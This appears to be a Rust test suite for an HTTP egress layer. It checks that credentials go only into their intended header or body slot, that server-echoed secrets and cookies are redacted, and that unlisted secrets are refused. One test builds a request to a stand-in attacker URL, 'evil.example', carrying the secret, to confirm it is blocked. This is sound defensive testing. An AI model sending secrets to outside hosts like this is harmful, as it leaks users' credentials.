//! Secrets: into the request where they belong, and nowhere else, whatever a server does with them.

use gladhand_core::exchange::Exchange;
use gladhand_egress::{Error, Request};
use serde_json::json;

use crate::support::{Crm, SECRET, Setting, World, once, reply, text};

#[tokio::test]
async fn the_credential_goes_into_its_header() {
    let crm = Crm::with(200, "").await;
    World::new(&crm.url)
        .send(Request::get("/x"))
        .await
        .expect("a response");
    assert_eq!(
        crm.only().header("authorization"),
        Some(&*format!("Bearer {SECRET}"))
    );
}

#[tokio::test]
async fn a_connector_cannot_set_the_credentials_header() {
    let crm = Crm::with(200, "").await;
    let mut request = Request::get("/x");
    request.headers = vec![("Authorization".into(), "Bearer mine".into())];
    let result = World::new(&crm.url).send(request).await;
    assert!(matches!(result, Err(Error::Refused(_))), "{result:?}");
    assert_eq!(crm.seen().len(), 0);
}

/// Everything that an exchange says.
fn whole(exchange: &Exchange) -> String {
    serde_json::to_string(exchange).expect("JSON")
}

#[track_caller]
fn assert_clean(text: &str) {
    for part in ["s3cr", "xyzzy"] {
        assert!(!text.contains(part), "{text}");
    }
}

#[tokio::test]
async fn a_secret_that_a_server_echoes_reaches_nobody() {
    let escaped = json!(SECRET).to_string();
    let slashes = escaped.replace('/', "\\/");
    let encoded = "12%7Cs3cr%2Bt%2F%22key%22~xyzzy";
    for echo in [SECRET, &escaped, &slashes, encoded] {
        let echo = echo.to_owned();
        let crm = Crm::answering(move |_| {
            let body = format!("{{\"error\": \"bad token {echo} given\"}}");
            reply(401, &[("x-echo", echo.as_str())], body)
        })
        .await;
        let mut world = World::new(&crm.url);
        let response = world.send(once()).await.expect("a response");
        assert_clean(text(&response));
        assert!(text(&response).contains("[redacted]"));
        assert_clean(&format!("{:?}", response.headers));
        assert_clean(&whole(world.last_exchange()));
        let committed = world.attempt.changes.answers.last().expect("a write");
        assert_clean(&format!(
            "{:?}",
            committed.answer.as_ref().expect("an answer").headers
        ));
        let body = &committed.answer.as_ref().expect("an answer").body;
        assert_clean(std::str::from_utf8(body).expect("text"));
    }
}

#[tokio::test]
async fn a_secret_that_a_server_echoes_in_base64_reaches_nobody() {
    // `crm:` + the secret, as Basic authentication writes it.
    let echo = "Y3JtOjEyfHMzY3IrdC8ia2V5In54eXp6eQ==";
    let crm = Crm::answering(move |_| reply(200, &[], echo)).await;
    let mut world = World::new(&crm.url);
    let response = world.send(Request::get("/x")).await.expect("a response");
    assert_eq!(text(&response), "Y3JtOj[redacted]Q==");
}

#[tokio::test]
async fn a_secret_that_a_connector_got_hold_of_is_not_recorded() {
    let crm = Crm::with(200, "").await;
    let mut world = World::new(&crm.url);
    let mut request = once();
    request.body = Some(format!("{{\"name\": {}}}", json!(SECRET)).into_bytes());
    request.query = vec![("q".into(), SECRET.into())];
    world.send(request).await.expect("a response");
    assert_clean(&whole(world.last_exchange()));
    let refused = format!("https://evil.example/{SECRET}");
    let error = world
        .send(Request::get(refused))
        .await
        .expect_err("refused");
    assert_clean(&error.to_string());
    assert_clean(&whole(world.last_exchange()));
}

#[tokio::test]
async fn a_session_cookie_is_not_handed_on() {
    let crm = Crm::answering(|_| reply(200, &[("set-cookie", "session=abc")], "")).await;
    let mut world = World::new(&crm.url);
    let response = world.send(Request::get("/x")).await.expect("a response");
    assert!(
        response
            .headers
            .contains(&("set-cookie".into(), "[redacted]".into()))
    );
    assert!(!whole(world.last_exchange()).contains("abc"));
    world.send(Request::get("/x")).await.expect("a response");
    assert_eq!(crm.seen()[1].header("cookie"), None);
}

fn body_secret() -> Setting {
    Setting {
        descriptor: json!({ "auth": { "scheme": "body-secret", "secrets": ["key"] } }),
        credentials: vec![("key", SECRET), ("other", "another secret")],
        ..Setting::default()
    }
}

#[tokio::test]
async fn a_body_secret_goes_to_its_place_and_into_no_recording() {
    let crm = Crm::with(200, "").await;
    let mut world = World::with(&crm.url, body_secret());
    let mut request = once();
    request.body = Some(br#"{"args": ["db", null], "name": "{{key}}"}"#.to_vec());
    request.body_secrets = vec![("/args/1".into(), "key".into())];
    world.send(request.clone()).await.expect("a response");
    let expect = format!(
        r#"{{"args": ["db", {}], "name": "{{{{key}}}}"}}"#,
        json!(SECRET)
    );
    assert_eq!(crm.only().body, expect);
    assert_eq!(crm.only().header("authorization"), None);
    assert_eq!(Some(&world.last_exchange().request), request.body.as_ref());
}

#[tokio::test]
async fn a_body_secret_that_the_descriptor_does_not_name_is_refused() {
    let crm = Crm::with(200, "").await;
    let mut world = World::with(&crm.url, body_secret());
    let mut request = once();
    request.body_secrets = vec![("/name".into(), "other".into())];
    let result = world.send(request).await;
    assert!(matches!(result, Err(Error::Refused(_))), "{result:?}");
    assert_eq!(
        world.journal.asked().len(),
        0,
        "nothing is intended that cannot be sent"
    );
}

#[tokio::test]
async fn a_visitor_who_calls_himself_secret_keeps_that_name() {
    let crm = Crm::answering(|seen| reply(200, &[], seen.body.clone())).await;
    let mut world = World::with(&crm.url, body_secret());
    let mut request = once();
    let body = r#"{"name": "{{secret}}", "also": "{{ key }} ${token}"}"#;
    request.body = Some(body.into());
    let response = world.send(request).await.expect("a response");
    assert_eq!(crm.only().body, body);
    assert_eq!(text(&response), body);
}
